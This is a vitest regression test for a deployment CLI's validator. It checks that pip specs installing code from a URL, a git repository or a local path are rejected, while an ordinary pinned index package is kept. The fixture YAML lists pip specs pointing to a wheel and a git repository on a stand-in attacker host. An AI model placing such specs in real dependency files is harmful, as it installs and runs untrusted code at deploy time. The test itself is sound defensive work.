import { rmSync } from "node:fs";
import { afterAll, expect, it } from "vitest";
import { makeRepo, runCli } from "../cli/runCli.js";

/**
 * Attack: pip specs that install code from outside the package index: a PEP 508 direct reference
 * (`name @ URL`), a VCS URL, a local path. Each passed validation and rendered into the deploy's
 * `pip install` step, so a merged definition ran whatever the URL served at deploy time, pinned by
 * nothing. Now validation refuses everything but index packages (name, extras, versions, markers).
 */
const repo = makeRepo(
  {
    "containers/billing-api.yml": `apiVersion: hostroot/v1
name: billing-api
platform: debian-12
packages:
  pip:
    - "billing-lib @ https://attacker.example/billing_lib-1.0-py3-none-any.whl"
    - "git+https://attacker.example/tools.git"
    - "./vendor/agent"
    - "flask==3.0.3; python_version >= '3.8'"
`,
  },
  { definitionsPath: "containers" },
);
afterAll(() => rmSync(repo, { recursive: true, force: true }));

it("refuses pip specs that install from a URL or a path, and keeps index packages", async () => {
  const run = await runCli(["validate"], { cwd: repo });
  expect(run.code).toBe(1);
  const errors = run.stdout.split("\n").filter((l) => l.includes("  error  "));
  expect(errors.map((l) => l.split("  ")[0])).toEqual([
    "containers/billing-api.yml:6:7",
    "containers/billing-api.yml:7:7",
    "containers/billing-api.yml:8:7",
  ]);
  for (const l of errors) expect(l).toMatch(/packages\/pip-spec$/);
  expect(errors[0]).toContain("direct reference");
});
